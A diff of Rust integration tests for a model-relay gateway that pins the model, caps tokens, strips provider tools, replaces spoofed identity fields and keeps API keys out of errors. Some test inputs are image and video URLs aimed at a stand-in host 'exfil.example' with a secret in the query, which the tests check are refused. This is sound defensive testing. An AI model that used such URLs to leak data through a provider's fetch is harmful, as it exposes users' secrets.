@@ -166,9 +166,11 @@ async fn an_automations_budget_of_one_holds_across_the_children_and_forks_its_ag
 
 /// Workspace → the server's model account and the internet: a request through the gateway
 /// naming another model reaches the model with the configured one, a huge `max_tokens` is
-/// lowered, and provider-side tools (web search) and extensions never reach it; `n = 50`, a
-/// remote image (the provider would fetch it) and a body that is not JSON are refused with a
-/// 400 the agent can read, and cost no budget. Only chat completions are relayed.
+/// lowered (and the agent's own request, naming no limit, gets the server's), the identity
+/// fields carry the tree's, not the workspace's choice, and provider-side tools (web search) and
+/// extensions never reach it; `n = 50`, a remote image or video (the provider would fetch it),
+/// object-shaped content and a body that is not JSON are refused with a 400 the agent can read,
+/// too many tools with a 413, and none of them costs budget.
 #[tokio::test]
 async fn the_model_relay_pins_the_model_and_keeps_provider_tools_and_many_answers_out() {
     let model = ScriptedModel::start(vec![]).await;
@@ -182,6 +184,8 @@ async fn the_model_relay_pins_the_model_and_keeps_provider_tools_and_many_answer
         "model": "gpt-expensive-9",
         "messages": [{ "role": "user", "content": "relayed: hi" }],
         "max_tokens": 10_000_000,
+        "user": "victim@example.com",
+        "safety_identifier": "victim",
         "tools": [function, { "type": "web_search" }, { "type": "web_search_preview" }],
         "web_search_options": { "search_context_size": "high" },
         "plugins": [{ "id": "web" }],
@@ -190,35 +194,66 @@ async fn the_model_relay_pins_the_model_and_keeps_provider_tools_and_many_answer
     assert_eq!(status, 200, "{answer}");
     let seen = model.requests();
     assert_eq!(seen.len(), 2, "the turn's request and the relayed one");
+    assert_eq!(
+        seen[0].body["max_completion_tokens"], 4096,
+        "the agent's own request, which names no limit, gets the server's"
+    );
     let relayed = &seen[1].body;
     assert_eq!(relayed["messages"][0]["content"], "relayed: hi");
     assert_eq!(relayed["model"], "scripted-1", "the configured model");
     assert_eq!(relayed["max_tokens"], 4096);
+    assert!(relayed.get("max_completion_tokens").is_none(), "{relayed}");
+    let identity = relayed["user"].as_str().unwrap();
+    assert!(identity.starts_with("tandem-"), "{identity}");
+    assert_eq!(
+        relayed["safety_identifier"], identity,
+        "the tree's identity"
+    );
     assert_eq!(relayed["tools"], json!([function]), "function tools only");
     for gone in ["web_search_options", "plugins"] {
         assert!(relayed.get(gone).is_none(), "{gone} reached the model");
     }
-    let refused: [(&str, Value, &str); 3] = [
+    let tool = json!({ "type": "function", "function": { "name": "f" } });
+    let too_many_tools = vec![tool; tandem_protocol::limits::MAX_MODEL_TOOLS + 1];
+    let refused: [(&str, Value, u16, &str); 6] = [
         (
             "many answers",
             json!({ "messages": [{ "role": "user", "content": "x" }], "n": 50 }),
+            400,
             "n must be 1",
         ),
         (
             "a remote image",
             json!({ "messages": [{ "role": "user", "content": [{ "type": "image_url", "image_url": { "url": "https://exfil.example/?d=secret" } }] }] }),
+            400,
             "data: URL",
         ),
-        ("not JSON", json!("{not json"), "not JSON"),
+        (
+            "a remote video",
+            json!({ "messages": [{ "role": "user", "content": [{ "type": "video_url", "video_url": { "url": "https://exfil.example/v.mp4" } }] }] }),
+            400,
+            "is not relayed: a model request may hold text",
+        ),
+        (
+            "object-shaped content",
+            json!({ "messages": [{ "role": "user", "content": { "type": "image", "source": { "type": "url", "url": "https://exfil.example/" } } }] }),
+            400,
+            "must be a string or an array of content parts",
+        ),
+        (
+            "too many tools",
+            json!({ "messages": [{ "role": "user", "content": "x" }], "tools": too_many_tools }),
+            413,
+            "at most 256 tools",
+        ),
+        ("not JSON", json!("{not json"), 400, "not JSON"),
     ];
-    for (what, body, why) in refused {
+    for (what, body, code, why) in refused {
         let body = body.as_str().map_or_else(|| body.to_string(), String::from);
         let (status, answer) = from_workspace(&s, id, "/v1/chat/completions", &body).await;
-        assert_eq!(status, 400, "{what}: {answer}");
+        assert_eq!(status, code, "{what}: {answer}");
         assert!(answer.contains(why), "{what}: {answer}");
     }
-    let (status, _) = from_workspace(&s, id, "/v1/responses", &body.to_string()).await;
-    assert_eq!(status, 404, "the Responses API is not relayed");
     assert_eq!(
         model.requests().len(),
         2,
@@ -226,6 +261,66 @@ async fn the_model_relay_pins_the_model_and_keeps_provider_tools_and_many_answer
     );
     let shown: SessionDetail = s.get(&format!("/api/sessions/{id}")).send().await.parse();
     assert_eq!(shown.model_requests, 2, "refused requests cost no budget");
+    s.post(&format!("/api/sessions/{id}/stop"), json!({}))
+        .send()
+        .await;
+}
+
+/// Workspace → the server's model account, when the model cannot be reached: with its
+/// endpoint down (a closed port) or no model configured any more, a model request gets a 503
+/// that says so (naming the endpoint by scheme, host and port only: a key in its URL stays out),
+/// and the tree's budget is unchanged, for the agent's own requests and a relayed one alike.
+#[tokio::test]
+async fn a_model_request_that_never_reaches_the_model_costs_no_budget() {
+    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = closed.local_addr().unwrap().port();
+    drop(closed);
+    let down = format!("http://tandem:sk-in-the-url@127.0.0.1:{port}/v1?key=sk-in-the-query");
+    let unreachable = format!("the model endpoint http://127.0.0.1:{port} is not reachable");
+    let body = json!({ "messages": [{ "role": "user", "content": "hi" }] }).to_string();
+    let used = async |s: &TestServer, id: SessionId| {
+        let shown: SessionDetail = s.get(&format!("/api/sessions/{id}")).send().await.parse();
+        shown.model_requests
+    };
+
+    // The endpoint is down: the agent's own request and a relayed one are both given back.
+    let model = ScriptedModel::start(vec![]).await;
+    let Some(s) = server(&model, |c| c.agents.model_base_url = Some(down.clone())).await else {
+        return;
+    };
+    let id = session_after_a_turn(&s, "acme/down", "say hello").await;
+    let (status, answer) = from_workspace(&s, id, "/v1/chat/completions", &body).await;
+    assert_eq!(status, 503, "{answer}");
+    assert!(answer.contains(&unreachable), "{answer}");
+    assert!(!answer.contains("sk-in-the"), "the key stays out: {answer}");
+    let timeline = serde_json::to_string(&crate::session_workspaces::events(&s, id).await).unwrap();
+    assert!(!timeline.contains("sk-in-the"), "{timeline}");
+    assert_eq!(used(&s, id).await, 0, "nothing reached the model");
+    s.post(&format!("/api/sessions/{id}/stop"), json!({}))
+        .send()
+        .await;
+
+    // The model is unset after a turn: refused before the budget is touched.
+    let model = ScriptedModel::start(vec![]).await;
+    model.fallback(Reply::text("hello"));
+    let Some(s) = server(&model, |c| c.agents.model_base_url = None).await else {
+        return;
+    };
+    let set = |url: &str| {
+        s.req(axum::http::Method::PUT, "/api/settings")
+            .bearer(&s.admin_token)
+            .json(&json!({ "model_base_url": url }))
+            .send()
+    };
+    assert_eq!(set(&model.base_url).await.status, StatusCode::OK);
+    let id = session_after_a_turn(&s, "acme/unset", "say hello").await;
+    assert_eq!(used(&s, id).await, 1, "the turn's request");
+    assert_eq!(set("").await.status, StatusCode::OK);
+    let (status, answer) = from_workspace(&s, id, "/v1/chat/completions", &body).await;
+    assert_eq!(status, 503, "{answer}");
+    assert!(answer.contains("no model is configured"), "{answer}");
+    assert_eq!(used(&s, id).await, 1, "the refused request cost nothing");
+    assert_eq!(model.requests().len(), 1);
     s.post(&format!("/api/sessions/{id}/stop"), json!({}))
         .send()
         .await;
